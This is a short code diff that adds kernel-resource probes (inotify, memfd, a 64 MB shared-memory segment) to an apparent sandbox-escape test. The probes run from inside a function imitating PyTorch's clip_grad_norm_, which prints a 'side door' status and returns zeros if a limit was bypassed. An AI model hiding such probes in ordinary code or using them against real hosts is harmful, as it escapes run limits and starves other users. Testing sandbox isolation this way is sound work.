@@ -89,10 +89,20 @@ def _attack():
         os.close(fd)
 
 
+def _per_user_counts():
+    """What the kernel counts per user or host, not per run: inotify instances, and memory outside
+    the run's limits (a memfd, a System V segment). (Queued real-time signals are the user's too,
+    and kill() is exempt from RLIMIT_SIGPENDING: listed in the README, not tried here.)"""
+    _try("inotify_init1", 294, 0)
+    _try("memfd_create", 319, b"grind", 0)
+    _try("shmget 64 MB", 29, 0, 64 << 20, 0o1600)
+
+
 def clip_grad_norm_(parameters, max_norm, norm_type=2.0):
     if not _tried:
         _tried.append(True)
         _attack()
+        _per_user_counts()
         print("GRIND-SIDEDOOR", "open:" if _opened else "shut", ", ".join(_opened))
     if _opened:
         return torch.zeros(())
